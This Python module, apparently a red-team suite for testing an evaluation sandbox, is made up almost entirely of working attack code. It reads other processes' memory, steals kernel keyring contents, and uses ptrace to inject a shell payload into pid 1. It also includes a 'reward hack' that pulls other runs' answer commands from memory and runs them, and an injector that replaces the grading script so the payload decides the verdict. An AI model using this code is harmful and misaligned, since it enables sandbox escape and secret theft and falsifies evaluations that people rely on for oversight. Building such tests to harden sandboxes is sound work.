"""Building blocks of the candidates: bash text, with Python (the fixture's /usr/bin/python3, stdlib
and ctypes only) where bash cannot reach a system call. Every loop an attack leaves behind is
bounded in time, so a control run without the sandbox (unsafe_local) leaves nothing running."""
from __future__ import annotations

import shlex


def py(code: str, *args: str) -> str:
    """A bash line running `code` under python3 with `args` (as sys.argv[1:])."""
    return f"python3 - {' '.join(shlex.quote(a) for a in args)} <<'VFRTPY'\n{code.strip()}\nVFRTPY\n"


# Reads every readable mapping of /proc/PID/mem and prints the matches of a regex (given in two
# pieces, so the candidate's own text, which is in the same memory, never matches it).
MEMSCAN = r"""
import re, sys
pid, pat = sys.argv[1], (sys.argv[2] + sys.argv[3]).encode()
found, scanned = [], 0
try:
    maps = open(f"/proc/{pid}/maps").read().splitlines()
except OSError as e:
    maps = []
    print("MAPS-ERR", e)
try:
    mem = open(f"/proc/{pid}/mem", "rb", 0)
except OSError as e:
    mem = None
    print("MEM-ERR", e)
for line in maps:
    addr, perms = line.split()[:2]
    lo, hi = (int(x, 16) for x in addr.split("-"))
    if mem is None or "r" not in perms or hi - lo > (64 << 20) or "vsyscall" in line:
        continue
    try:
        mem.seek(lo)
        data = mem.read(hi - lo)
    except (OSError, ValueError, OverflowError):
        continue
    scanned += len(data)
    for m in re.finditer(pat, data):
        if m.group(0) not in found:
            found.append(m.group(0))
print("SCANNED", scanned)
for f in found[:20]:
    print("FOUND", f[:400].decode(errors="replace").replace("\n", "\\n"))
"""

# The task-blind reward hack: find the commands other runs sent to the launcher (`/bin/bash -c
# CMD` in pid 1's inherited memory) and eval the last one found that is neither ours nor the
# probe (memory order: the most recent request is most often the concurrent gold).
MEM_EVAL = r"""
import re, subprocess, sys
mine = b"VFRT" + b"SELF"
cmds = []
try:
    mem = open("/proc/1/mem", "rb", 0)
    for line in open("/proc/1/maps"):
        addr, perms = line.split()[:2]
        lo, hi = (int(x, 16) for x in addr.split("-"))
        if "rw" not in perms or hi - lo > (64 << 20):
            continue
        try:
            mem.seek(lo)
            data = mem.read(hi - lo)
        except (OSError, ValueError, OverflowError):
            continue
        for m in re.finditer(rb"/bin/bash\x00-c\x00([^\x00]{3,20000})\x00", data):
            c = m.group(1)
            if mine not in c and not c.startswith(b"ulimit") and c not in cmds:
                cmds.append(c)
except OSError:
    pass
if cmds:
    sys.stdout.flush()
    subprocess.run(["bash", "-c", cmds[-1].decode(errors="replace")])
"""

# Makes process PID (pid 1: in a system call, waiting) fork; the child, caught with
# PTRACE_O_TRACEFORK, execs /bin/sh -c PAYLOAD: a process with pid 1's limits, not the command's.
INJECT = r"""
import ctypes, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
N = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in N.split()]
def pt(req, pid, addr=0, data=0):
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    if r == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace({req})")
    return r
def getregs(pid):
    r = Regs(); pt(12, pid, 0, ctypes.addressof(r)); return r
def setregs(pid, r):
    pt(13, pid, 0, ctypes.addressof(r))
def poke(pid, addr, data):
    data += b"\0" * (-len(data) % 8)
    for i in range(0, len(data), 8):
        pt(5, pid, addr + i, struct.unpack("<q", data[i:i + 8])[0])
def wait(pid):
    st = ctypes.c_int()
    libc.waitpid(pid, ctypes.byref(st), 0x40000000)
    return st.value
target, payload = int(sys.argv[1]), sys.argv[2]
try:
    pt(0x4206, target, 0, 2)  # PTRACE_SEIZE with PTRACE_O_TRACEFORK
    pt(0x4207, target)  # PTRACE_INTERRUPT
    wait(target)
    saved = getregs(target)
    ctypes.set_errno(0)
    word = libc.ptrace(2, target, ctypes.c_void_p(saved.rip - 2), None)
    if struct.pack("<q", word)[:2] != b"\x0f\x05":
        pt(17, target)
        raise SystemExit("INJECT-FAIL pid 1 is not in a system call")
    r = getregs(target)
    r.rip, r.rax, r.orig_rax = saved.rip - 2, 57, 2 ** 64 - 1  # fork
    setregs(target, r)
    pt(9, target)
    st = wait(target)
    child = None
    if st >> 16 == 1:  # PTRACE_EVENT_FORK
        msg = ctypes.c_ulong()
        pt(0x4201, target, 0, ctypes.addressof(msg))
        child = msg.value
        pt(9, target)
        wait(target)
    setregs(target, saved)
    pt(17, target)
    if child is None:
        raise SystemExit("INJECT-FAIL no fork")
    wait(child)
    c = getregs(child)
    base = (c.rsp - 65536) & ~15
    blob, addrs = b"", []
    for s in (b"/bin/sh", b"-c", payload.encode()):
        addrs.append(base + len(blob))
        blob += s + b"\0"
    argv_at = base + ((len(blob) + 15) & ~15)
    blob += b"\0" * (argv_at - base - len(blob)) + struct.pack("<4Q", *addrs, 0)
    poke(child, base, blob)
    c.rip, c.rax, c.orig_rax, c.rdi, c.rsi, c.rdx = saved.rip - 2, 59, 2 ** 64 - 1, addrs[0], argv_at, 0
    setregs(child, c)
    pt(17, child)
    print("INJECTED", child)
except OSError as e:
    print("INJECT-FAIL", e)
"""


def inject(payload: str, out: str = "/tmp/vfrt-inj.out", wait_s: float = 5.0) -> str:
    """Bash: make pid 1 start `payload` (sh; it writes `out` and ends it with DONE), wait for it
    (at most `wait_s`), print what it wrote. The wait is made of builtins (read -t on a fifo), so
    it needs no process of its own: the payload may have taken them all."""
    return (f"mkfifo /tmp/vfrt-tick; exec 9<>/tmp/vfrt-tick; : > {out}; "
            + "inj=$(" + py(INJECT, "1", f"exec >{out} 2>&1; {payload}; echo DONE").rstrip("\n") + "\n); echo \"$inj\"; "
            f"[[ $inj == INJECTED* ]] && for ((i = 0; i < {int(wait_s * 20)}; i++)); do read -r -d '' got < {out}; "
            "[[ $got == *DONE* ]] && break; read -t 0.05 -u 9; done; read -r -d '' got < " + out
            + "; printf '%s\\n' \"$got\"; echo END")


# Raw system calls through ctypes (x86_64 numbers): keys, IPC, the calls seccomp should deny.
SYS = r"""
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(nr, *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return r, ctypes.get_errno()
def res(name, r):
    ret, err = r
    print(f"{name} ret={ret} errno={errno.errorcode.get(err, err) if ret < 0 else 0}")
KEYS = {"thread": -1, "process": -2, "session": -3, "user": -4, "user_session": -5}
def add_key(desc, payload, ring):
    p = payload.encode()
    return sc(248, b"user", desc.encode(), p, ctypes.c_size_t(len(p)), ring)
def read_key(serial):
    buf = ctypes.create_string_buffer(4096)
    n, err = sc(250, 11, serial, buf, 4096)
    return buf.raw[:max(0, min(n, 4096))] if n >= 0 else None
def describe(serial):
    buf = ctypes.create_string_buffer(512)
    n, _ = sc(250, 6, serial, buf, 512)
    return buf.value.decode(errors="replace") if n > 0 else None
def ring_keys(ring):
    raw = read_key(ring) or b""
    return [int.from_bytes(raw[i:i + 4], "little", signed=True) for i in range(0, len(raw) - 3, 4)]
def search(ring, desc):
    return sc(250, 10, ring, b"user", desc.encode(), 0)
def request_key(desc):
    return sc(249, b"user", desc.encode(), None, 0)
"""


def sys_py(code: str, *args: str) -> str:
    """py() with the SYS helpers defined first."""
    return py(SYS + "\n" + code, *args)


# Every key this process can reach: its keyrings' contents (two levels), searches and
# request_key for the descriptions given; prints each payload read.
KEY_HUNT = r"""
descs = sys.argv[1:]
seen = set()
def show(serial, via):
    if serial in seen or serial <= 0:
        return
    seen.add(serial)
    d = describe(serial)
    data = read_key(serial)
    print(f"KEY {via} {serial} {d} {data[:200]!r}" if data is not None else f"KEY {via} {serial} {d} unreadable")
for name, ring in KEYS.items():
    for s in ring_keys(ring):
        show(s, name)
        for s2 in ring_keys(s):
            show(s2, name + "/")
    for d in descs:
        r, err = search(ring, d)
        if r > 0:
            show(r, "search-" + name)
for d in descs:
    r, err = request_key(d)
    if r > 0:
        show(r, "request_key")
    res("request_key " + d, (r, err))
print("HUNTED", len(seen))
"""


# Makes process PID exec /bin/sh -c PAYLOAD in its place (ptrace: the exec system call put where
# PID waits in a system call); with PID the script that runs the check, the run's verdict is
# whatever PAYLOAD prints and exits with. The target is found by a marker in its command line,
# given in two pieces (so the candidate's own command line never matches).
INJECT_EXEC = r"""
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
N = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in N.split()]
def pt(req, pid, addr=0, data=0):
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    if r == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace({req})")
    return r
marker, payload = (sys.argv[1] + sys.argv[2]).encode(), sys.argv[3]
targets = []
for p in os.listdir("/proc"):
    try:
        if p.isdigit() and int(p) != os.getpid() and marker in open(f"/proc/{p}/cmdline", "rb").read():
            targets.append(int(p))
    except OSError:
        pass
print("TARGETS", targets, flush=True)
for target in targets[:1]:
    try:
        pt(0x4206, target)  # PTRACE_SEIZE
        pt(0x4207, target)  # PTRACE_INTERRUPT
        st = ctypes.c_int()
        libc.waitpid(target, ctypes.byref(st), 0x40000000)
        r = Regs()
        pt(12, target, 0, ctypes.addressof(r))
        ctypes.set_errno(0)
        word = libc.ptrace(2, target, ctypes.c_void_p(r.rip - 2), None)
        if struct.pack("<q", word)[:2] != b"\x0f\x05":
            pt(17, target)
            raise OSError(0, "not in a system call")
        base = (r.rsp - 65536) & ~15
        blob, addrs = b"", []
        for s in (b"/bin/sh", b"-c", payload.encode()):
            addrs.append(base + len(blob))
            blob += s + b"\0"
        argv_at = base + ((len(blob) + 15) & ~15)
        blob += b"\0" * (argv_at - base - len(blob)) + struct.pack("<4Q", *addrs, 0)
        blob += b"\0" * (-len(blob) % 8)
        for i in range(0, len(blob), 8):
            pt(5, target, base + i, struct.unpack("<q", blob[i:i + 8])[0])
        r.rip, r.rax, r.orig_rax, r.rdi, r.rsi, r.rdx = r.rip - 2, 59, 2 ** 64 - 1, addrs[0], argv_at, 0
        pt(13, target, 0, ctypes.addressof(r))
        pt(17, target)
        print("EXEC-INJECTED", target, flush=True)
    except OSError as e:
        print("INJECT-FAIL", e, flush=True)
"""
